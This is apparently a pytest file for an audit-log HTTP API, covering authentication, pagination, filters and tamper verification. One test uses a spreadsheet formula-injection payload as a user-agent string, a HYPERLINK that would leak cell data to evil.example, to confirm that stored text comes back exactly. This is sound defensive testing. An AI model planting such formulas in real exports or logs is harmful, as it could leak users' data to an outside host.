"""GET /v1.0/audit and /v1.0/audit/verify on a real Tornado server."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlencode

import pytest
import tornado.httpclient
import tornado.httpserver
import tornado.testing
import tornado.web

from tests import audit_helpers
from tests.audit_helpers import ALICE, Backend, awrite_log, conn_info, minutes, rec, topic
from wsgate.adapters.audit_api import audit_routes
from wsgate.audit.query import AuditReader
from wsgate.audit.records import ConnectionInfo

backend = audit_helpers.backend  # the fixture: SQLite, and PostgreSQL when configured

API_KEY = "audit-key-1"


class API:
    def __init__(self, port: int) -> None:
        self.base = f"http://127.0.0.1:{port}"
        self.client = tornado.httpclient.AsyncHTTPClient()

    async def get(self, path: str, key: str | None = API_KEY,
                  **params: Any) -> tuple[int, Any]:
        headers = {"Authorization": f"Bearer {key}"} if key is not None else {}
        url = f"{self.base}{path}" + (f"?{urlencode(params)}" if params else "")
        resp = await self.client.fetch(url, headers=headers, raise_error=False)
        return resp.code, json.loads(resp.body)


def audit_api_servers(io_loop: Any, backend: Backend,
                      default_keys: tuple[Any, ...] = (API_KEY,)) -> Iterator[Any]:
    """The body of a ``serve`` fixture: yields ``start(keys, witnesses) -> API``, a real
    server of the audit API over backend's store; stops every server it started."""
    servers: list[tornado.httpserver.HTTPServer] = []

    def start(keys: tuple[Any, ...] = default_keys, witnesses: tuple[str, ...] = ()) -> API:
        reader = AuditReader(backend.engine(), backend.key.public_key(), witnesses)
        app = tornado.web.Application(audit_routes(reader, keys))
        sock, port = tornado.testing.bind_unused_port()
        server = tornado.httpserver.HTTPServer(app)
        server.add_sockets([sock])
        servers.append(server)
        return API(port)

    yield start
    for s in servers:
        s.stop()
        io_loop.run_sync(s.close_all_connections)


@pytest.fixture
def serve(io_loop: Any, backend: Backend) -> Iterator[Any]:
    yield from audit_api_servers(io_loop, backend)


@pytest.mark.gen_test(timeout=30)
async def test_auth_is_required(backend: Backend, serve: Any) -> None:
    await awrite_log(backend, [("sub", [rec(topic("a"))])])
    api = serve()
    for key in (None, "wrong-key", ""):
        status, body = await api.get("/v1.0/audit", key=key)
        assert status == 401
        assert body["error"]["code"] == "unauthenticated" and body["error"]["message"]
    status, body = await api.get("/v1.0/audit/verify", key="wrong-key")
    assert status == 401
    status, body = await api.get("/v1.0/audit")
    assert status == 200 and [r["seq"] for r in body["rows"]] == [1]


@pytest.mark.gen_test(timeout=30)
async def test_api_is_off_without_keys(backend: Backend, serve: Any) -> None:
    api = serve(keys=())
    status, body = await api.get("/v1.0/audit", key="anything")
    assert status == 404 and "api_keys" in body["error"]["message"]


@pytest.mark.gen_test(timeout=60)
async def test_pages_cover_every_row_once_in_order(backend: Backend, serve: Any) -> None:
    await awrite_log(backend, [("sub", [rec(topic("call", str(i)), at=minutes(i % 7))
                                 for i in range(250)])], signed=False)
    api = serve()
    seen: list[int] = []
    cursor: str | None = None
    pages = 0
    while True:
        params: dict[str, Any] = {"limit": 100}
        if cursor:
            params["cursor"] = cursor
        status, body = await api.get("/v1.0/audit", **params)
        assert status == 200
        pages += 1
        seen += [r["seq"] for r in body["rows"]]
        cursor = body["next_cursor"]
        if cursor is None:
            break
    assert pages == 3 and sorted(seen) == list(range(1, 251)) and len(set(seen)) == 250
    # Oldest first: minute 0 rows (seq 1, 8, 15...) come before minute 1 rows.
    assert seen[:3] == [1, 8, 15]
    status, body = await api.get("/v1.0/audit")
    assert len(body["rows"]) == 100 and body["next_cursor"]
    assert list(body["rows"][0]) == [
        "seq", "occurred_at", "node_id", "connection_id", "action", "topic", "outcome", "code",
        "kind", "subject", "customer_id", "agent_id", "authenticator", "remote_addr", "origin",
        "user_agent"]


@pytest.mark.gen_test(timeout=30)
async def test_filters_and_bad_parameters(backend: Backend, serve: Any) -> None:
    await awrite_log(backend, [("sub", [rec(topic("a"), at=minutes(0)),
                                 rec(topic("b"), at=minutes(5), conn=conn_info("c2")),
                                 rec(topic("c"), outcome="rejected", code="forbidden",
                                     at=minutes(9))])])
    api = serve()
    status, body = await api.get("/v1.0/audit", connection="c2")
    assert status == 200 and [r["seq"] for r in body["rows"]] == [2]
    status, body = await api.get("/v1.0/audit", outcome="rejected", since="2024-05-01T12:01Z")
    assert [r["seq"] for r in body["rows"]] == [3] and body["next_cursor"] is None
    for params, message in [({"limit": "0"}, "limit"), ({"limit": "1001"}, "limit"),
                            ({"limit": "ten"}, "limit"), ({"since": "noon"}, "ISO 8601"),
                            ({"outcome": "maybe"}, "outcome"),
                            ({"cursor": "not-a-cursor"}, "cursor")]:
        status, body = await api.get("/v1.0/audit", **params)
        assert status == 400, params
        assert body["error"]["code"] == "bad_request" and message in body["error"]["message"]


@pytest.mark.gen_test(timeout=30)
async def test_rows_show_empty_values_as_null_and_others_exactly(backend: Backend,
                                                                 serve: Any) -> None:
    hostile_ua = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    conn = ConnectionInfo("c-evil", ALICE, "static", "10.0.0.9", "", hostile_ua)
    await awrite_log(backend, [("sub", [rec(topic("a"), at=minutes(0), conn=conn),
                                        rec("-1+2", outcome="rejected", code="invalid_topic",
                                            at=minutes(1), conn=conn)])])
    api = serve()
    status, body = await api.get("/v1.0/audit")
    assert status == 200
    accepted, rejected = body["rows"]
    # The accepted subscribe's code and the missing Origin are stored as "": null here,
    # like a principal without an agent id.
    assert accepted["code"] is None and accepted["origin"] is None
    assert accepted["action"] == "subscribe" and accepted["outcome"] == "accepted"
    # Client-sent text comes back exactly as stored (no CSV escaping in JSON).
    assert [r["user_agent"] for r in body["rows"]] == [hostile_ua] * 2
    assert rejected["topic"] == "-1+2" and rejected["code"] == "invalid_topic"
    status, body = await api.get("/v1.0/audit/verify")
    assert body["ok"] is True


@pytest.mark.gen_test(timeout=30)
async def test_verify_endpoint(backend: Backend, serve: Any) -> None:
    await awrite_log(backend, [("sub", [rec(topic(str(i))) for i in range(7)])])
    api = serve()
    status, body = await api.get("/v1.0/audit/verify")
    assert status == 200 and body["ok"] is True and body["rows_checked"] == 7
    assert body["signatures_checked"] is True
    backend.execute("DELETE FROM audit_rows WHERE seq = 3")
    status, body = await api.get("/v1.0/audit/verify")
    assert status == 200 and body["ok"] is False
    assert body["first"]["seq"] == 3 and body["first"]["kind"] == "deleted"


@pytest.mark.gen_test(timeout=30)
async def test_verify_endpoint_compares_the_file_witnesses(backend: Backend, serve: Any) -> None:
    witness = backend.tmp / "witness.jsonl"
    await awrite_log(backend, [("sub", [rec(topic(str(i)))]) for i in range(12)],
                     witness=(f"file://{witness}",))
    api = serve(witnesses=(f"file://{witness}",))
    status, body = await api.get("/v1.0/audit/verify")
    assert status == 200 and body["ok"] is True and body["unsealed"] == []
    # Rolled back past the checkpoint at 10 (every 5 rows here): the witness holds it.
    backend.execute("DELETE FROM audit_rows WHERE seq > 5")
    backend.execute("DELETE FROM audit_checkpoints WHERE seq > 5 AND chain = 'rows'")
    status, body = await api.get("/v1.0/audit/verify")
    assert status == 200 and body["ok"] is False
    assert (body["first"]["kind"], body["first"]["seq"]) == ("witness_missing", 10)
    witness.write_text("not json\n")
    status, body = await api.get("/v1.0/audit/verify")
    assert status == 503 and body["error"]["code"] == "audit_unavailable"
    assert "line 1" in body["error"]["message"]


@pytest.mark.gen_test(timeout=30)
async def test_the_served_api_is_off_without_keys(make_server: Any) -> None:
    # What the server mounts (not this file's serve fixture): with no [audit]
    # api_keys, the API answers 404 saying how to turn it on, and opens no reader.
    server = await make_server()
    api = API(server.port)
    for path in ("/v1.0/audit", "/v1.0/audit/verify"):
        status, body = await api.get(path, key="anything")
        assert status == 404 and body["error"]["code"] == "not_found", path
        assert "set [audit] api_keys to enable it" in body["error"]["message"], path
